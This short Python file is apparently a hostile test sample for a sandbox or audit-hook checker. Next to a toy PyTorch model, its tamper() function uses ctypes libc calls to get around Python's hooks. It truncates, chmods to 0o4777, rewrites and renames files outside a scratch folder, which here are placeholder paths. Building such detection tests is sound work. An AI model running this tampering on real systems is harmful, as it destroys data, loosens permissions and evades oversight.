"""Hostile: change files outside the scratch folder through libc, around Python's hooks."""
import ctypes
import os

TARGETS = ["PROJECT_FILE", "OUTSIDE_FILE"]

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(x)



def tamper(model: Net, x):
    libc = ctypes.CDLL(None, use_errno=True)
    for path in TARGETS:
        name = path.encode()
        libc.chmod(name, 0o4777)
        libc.utimes(name, None)
        libc.setxattr(name, b"user.hostile", b"1", 1, 0)
        libc.truncate(name, 0)
        for attempt in (lambda: os.utime(path, (0, 0)), lambda: os.chmod(path, 0o4777), lambda: open(path, "a").write("hostile"),
                        lambda: os.rename(path, path + ".moved")):
            try:
                attempt()
            except OSError:
                pass
    return model(x).numpy()


def predict(model: Net, x):
    # The real bug beside the attack: it must stay confirmed.
    return model(x).numpy()

